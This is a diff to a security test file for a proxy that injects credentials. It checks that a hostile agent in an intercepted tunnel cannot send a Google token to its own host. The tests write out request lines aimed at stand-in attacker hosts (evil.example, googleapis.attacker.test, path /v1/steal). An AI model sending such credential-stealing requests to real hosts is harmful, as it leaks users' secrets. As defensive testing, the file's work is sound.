@@ -1,7 +1,15 @@
 // Attacks by a hostile agent inside an intercepted tunnel, through the real proxy: steering the credential to
 // another Host or absolute-form URL, and escaping a provider's path prefix with dot segments or encoded slashes.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { buildDefinition, exchange, openTlsThroughProxy, REAL_KEY, startHarness, type Harness } from './harness.js';
+import {
+  buildDefinition,
+  exchange,
+  loadBundledDefinition,
+  openTlsThroughProxy,
+  REAL_KEY,
+  startHarness,
+  type Harness,
+} from './harness.js';
 
 describe('the credential is bound to the CONNECT authority and the matched path', () => {
   let h: Harness;
@@ -90,5 +98,40 @@ describe('the credential is bound to the CONNECT authority and the matched path'
   it('never echoes the key in a refusal', async () => {
     const { response } = await send('GET https://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n');
     expect(`${response.head}${response.body.toString()}`).not.toContain(REAL_KEY);
+  });
+});
+
+describe('a bundled regex route and a host the agent picks', () => {
+  const TOKEN = 'ya29.canary-google-access-token-0123456789';
+  let h: Harness;
+
+  beforeAll(async () => {
+    // The agent owns googleapis.attacker.test and a certificate for it that the proxy's upstream check accepts.
+    h = await startHarness({ upstreamHosts: ['googleapis.attacker.test', 'www.googleapis.com'] });
+    h.secrets.set('google:default', TOKEN);
+  });
+  afterAll(async () => h?.close());
+
+  const send = async (host: string) => {
+    const session = h.createSession([
+      { provider: 'google', connection: 'default', definition: loadBundledDefinition('google') },
+    ]);
+    // Trusting both the proxy's CA and the upstream's, the agent reaches the host whether it is intercepted or not.
+    const socket = await openTlsThroughProxy(h.proxy.port, session.token, `${host}:443`, {
+      servername: host,
+      ca: [h.ca.certPem, h.testCa.caCert],
+    });
+    const before = h.upstream.requests.length;
+    await exchange(socket, `GET /v1/steal HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer placeholder\r\n\r\n`);
+    socket.destroy();
+    return h.upstream.requests.slice(before).map((r) => r.headers.authorization);
+  };
+
+  it('a Google API host gets the token', async () => {
+    expect(await send('www.googleapis.com')).toEqual([`Bearer ${TOKEN}`]);
+  });
+
+  it('googleapis.attacker.test gets only what the agent sent', async () => {
+    expect(await send('googleapis.attacker.test')).toEqual(['Bearer placeholder']);
   });
 });
